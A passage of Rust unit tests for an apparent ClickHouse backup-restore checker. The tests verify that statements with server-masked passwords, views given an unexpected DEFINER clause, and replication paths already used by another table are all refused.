    }
}

/// Review L-10: on servers that mask credentials in `SHOW CREATE` (`[HIDDEN]`), a backup holds
/// the mask where the password was; such a statement would create an object with the password
/// `[HIDDEN]`, so it is refused with the reason named.
#[test]
fn statements_with_a_credential_the_server_masked_are_refused() {
    let mut m = good();
    m.tables.push(Table {
        database: "default".into(),
        name: "remote_orders".into(),
        engine: "MySQL".into(),
        create: "CREATE TABLE default.remote_orders (id UInt64) ENGINE = MySQL('db:3306', 'shop', 'orders', 'app', '[HIDDEN]')".into(),
        parts: vec![],
    });
    assert_eq!(
        rule(check_shard(&m, "b1", 0, Allow { external: true })),
        StatementRule::Hidden
    );
    let mut db = good();
    db.databases.insert(
        "default".into(),
        "CREATE DATABASE default ENGINE = MySQL('db:3306', 'shop', 'app', '[HIDDEN]')".into(),
    );
    assert_eq!(
        rule(check_shard(&db, "b1", 0, Allow { external: true })),
        StatementRule::Hidden
    );
}

/// Decision 61: what a server kept of a restored view (`create_table_query`) is checked
/// against what the restore meant; a server that filled in a definer after all (a setting
/// off, a version that writes the defaults) has its view refused (the agent then drops it).
#[test]
fn what_a_server_kept_of_a_view_is_what_the_restore_meant() {
    let c = check(&good()).unwrap();
    let (v, mv, events) = (
        table_of(&c, "v"),
        table_of(&c, "mv"),
        table_of(&c, "events"),
    );
    let view = |clause: &str| {
        format!(
            "CREATE VIEW default.v (`n` UInt64) {clause} AS SELECT count() AS n FROM default.events"
        )
    };
    let server = modern(true);
    assert_eq!(
        v.check_created(&server, &view("SQL SECURITY INVOKER")),
        Ok(())
    );
    assert_eq!(v.check_created(&OLD, &view("")), Ok(()));
    for clause in [
        "",
        "DEFINER = clickhouse_operator SQL SECURITY DEFINER",
        "SQL SECURITY NONE",
    ] {
        assert!(
            matches!(
                v.check_created(&server, &view(clause)),
                Err(Refusal::CreatedWith { .. })
            ),
            "{clause}"
        );
    }
    let kept = "CREATE MATERIALIZED VIEW default.mv TO default.events (`batch` UInt64) AS SELECT batch FROM default.events";
    assert_eq!(mv.check_created(&server, kept), Ok(()));
    let filled = "CREATE MATERIALIZED VIEW default.mv TO default.events (`batch` UInt64) DEFINER = clickhouse_operator SQL SECURITY DEFINER AS SELECT batch FROM default.events";
    let refused = mv.check_created(&server, filled).unwrap_err();
    assert!(
        refused
            .to_string()
            .contains("DEFINER = clickhouse_operator SQL SECURITY DEFINER"),
        "{refused}"
    );
    assert_eq!(events.check_created(&server, "anything"), Ok(()));
}

/// Review H-1, 5: the path the restore gives a table could still be taken by a table the
/// cluster has under another name (a path chosen by hand); the agent reads `system.replicas`
/// on the backup replica first and refuses such a table before anything is written. The table
/// itself, existing already, is not created again and passes.
#[test]
fn a_keeper_path_another_table_holds_is_refused() {
    let c = check(&good()).unwrap();
    let row = |db: &str, t: &str, p: &str| (db.to_string(), t.to_string(), p.to_string());
    assert_eq!(c.check_keeper_paths(0, &[]), Ok(()));
    let taken = [row("prod", "orders", "/clickhouse/tables/0/default/events")];
    assert_eq!(
        c.check_keeper_paths(0, &taken),
        Err(Refusal::KeeperPathInUse {
            object: "`default`.`events`".into(),
            path: "/clickhouse/tables/0/default/events".into(),
            other: "`prod`.`orders`".into(),
        })
    );
    assert_eq!(
        c.check_keeper_paths(1, &taken),
        Ok(()),
        "another shard's path"
    );
    let itself = [row(
        "default",
        "events",
        "/clickhouse/tables/0/default/events",
    )];
    assert_eq!(c.check_keeper_paths(0, &itself), Ok(()));
}
